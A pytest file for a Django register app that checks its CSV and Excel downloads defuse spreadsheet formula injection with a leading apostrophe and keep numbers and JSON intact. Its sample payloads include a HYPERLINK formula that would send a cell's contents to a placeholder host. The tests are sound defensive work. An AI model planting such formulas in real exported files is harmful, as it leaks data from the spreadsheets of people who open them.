"""The list pages' downloads never hand a spreadsheet a formula: text that starts like one
is written with a leading apostrophe, as text, in the CSV and the Excel file; numbers stay
numbers; JSON is data and keeps the text as it is."""

import csv
import io
import json
from decimal import Decimal

import openpyxl
import pytest

from register.exports import dataset_as_csv, escape_cell, unescape_cell
from tests.factories import body

pytestmark = pytest.mark.django_db

# What a spreadsheet would read as a formula (or the start of one).
FORMULAE = [
    '=HYPERLINK("https://example.com/?leak="&A2,"Click")',
    "+1+2",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
]


def csv_rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(body(response), newline="")))


def xlsx_rows(response) -> list[tuple]:
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [tuple(row) for row in sheet.iter_rows()]


def as_read_from_xlsx(text: str) -> str:
    """XML, and so an Excel file, reads a carriage return back as a line feed."""
    return text.replace("\r", "\n")


def xlsx_row_of(rows, first_cell_value):
    first_cell_value = as_read_from_xlsx(first_cell_value)
    matches = [row for row in rows if row[0].value == first_cell_value]
    assert len(matches) == 1, [[c.value for c in row] for row in rows]
    return matches[0]


@pytest.mark.parametrize("formula", FORMULAE)
def test_arrangement_titles_are_never_formulae_in_the_csv(client, register, formula):
    register.legal.title = formula
    register.legal.save()
    rows = csv_rows(client.get("/arrangements/", {"_export": "csv"}))
    titles = [row[0] for row in rows[1:]]
    assert "'" + formula in titles
    assert formula not in titles
    row = dict(zip(rows[0], rows[1 + titles.index("'" + formula)], strict=True))
    assert row["Partners"] == "2"  # a number, as it was
    assert row["Savings at least (£)"] == "150000.00"  # unescaped


@pytest.mark.parametrize("formula", FORMULAE)
def test_arrangement_titles_are_never_formulae_in_the_excel_file(client, register, formula):
    register.legal.title = formula
    register.legal.save()
    rows = xlsx_rows(client.get("/arrangements/", {"_export": "xlsx"}))
    title, *rest = xlsx_row_of(rows, "'" + formula)
    assert title.data_type == "s"  # a string cell, not a formula ('f')
    assert title.value == as_read_from_xlsx("'" + formula)
    assert not any(cell.data_type == "f" for row in rows for cell in row)
    partners = rest[3]
    assert (partners.value, partners.data_type) == (2, "n")  # numbers stay numbers


@pytest.mark.parametrize("formula", FORMULAE)
def test_authority_names_are_never_formulae_in_csv_or_excel(client, register, formula):
    register.alpha.name = formula
    register.alpha.save()
    rows = csv_rows(client.get("/authorities/", {"_export": "csv"}))
    names = [row[0] for row in rows[1:]]
    assert "'" + formula in names and formula not in names
    rows = xlsx_rows(client.get("/authorities/", {"_export": "xlsx"}))
    name, code, *_ = xlsx_row_of(rows, "'" + formula)
    assert (name.data_type, name.value, code.value) == (
        "s",
        as_read_from_xlsx("'" + formula),
        "ALP",
    )
    assert not any(cell.data_type == "f" for row in rows for cell in row)


def test_json_is_data_and_keeps_the_text_as_typed(client, register):
    register.legal.title = "=1+2"
    register.legal.save()
    data = json.loads(client.get("/arrangements/", {"_export": "json"}).content)
    assert "=1+2" in [row["Title"] for row in data]


@pytest.mark.parametrize("url", ["/arrangements/", "/authorities/"])
@pytest.mark.parametrize("fmt", ["tsv", "latex", "ods", "xls", "yaml"])
def test_formats_the_pages_do_not_offer_are_not_exported(client, register, url, fmt):
    """django-tables2 would export any format it knows (TSV unescaped, and a server error
    where the writer is not installed); the pages answer only for CSV, Excel and JSON."""
    response = client.get(url, {"_export": fmt})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "Content-Disposition" not in response
    assert (
        f"There is no “{fmt}” download of this list: it can be downloaded as CSV, "
        "Excel (.xlsx), JSON (below)."
    ) in body(response)


@pytest.mark.parametrize("url", ["/arrangements/", "/authorities/"])
def test_an_empty_download_parameter_asks_for_no_download(client, register, url):
    response = client.get(url, {"_export": ""})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert "There is no" not in body(response)


@pytest.mark.parametrize(
    "value",
    [
        0,
        -5,
        Decimal("-12.50"),
        -1.5,
        None,
        "",
        "-12.50",  # a number written as text is a number to a spreadsheet too
        "-1,200",
        "Plain text",
        "'quoted'",
        "a=b",
        " =not at the start",
    ],
)
def test_what_is_not_a_formula_is_left_alone(value):
    assert escape_cell(value) is value or escape_cell(value) == value
    assert type(escape_cell(value)) is type(value)


@pytest.mark.parametrize("value", [*FORMULAE, "|x", "%x", "'=1+2", "''+1", "-", "=", "-12.5.6-"])
def test_escaping_adds_one_apostrophe_and_loses_nothing(value):
    escaped = escape_cell(value)
    assert escaped == "'" + value
    assert unescape_cell(escaped) == value
    # A text that merely starts with an apostrophe comes back as it was too.
    assert unescape_cell(escape_cell("'" + value)) == "'" + value


def test_csv_writing_escapes_text_and_keeps_numbers():
    import tablib

    data = tablib.Dataset(headers=["title", "amount"])
    data.append(["=1+2", -5])
    data.append(["\r=1+2", Decimal("-2.50")])
    rows = list(csv.reader(io.StringIO(dataset_as_csv(data), newline="")))
    assert rows == [["title", "amount"], ["'=1+2", "-5"], ["'\r=1+2", "-2.50"]]
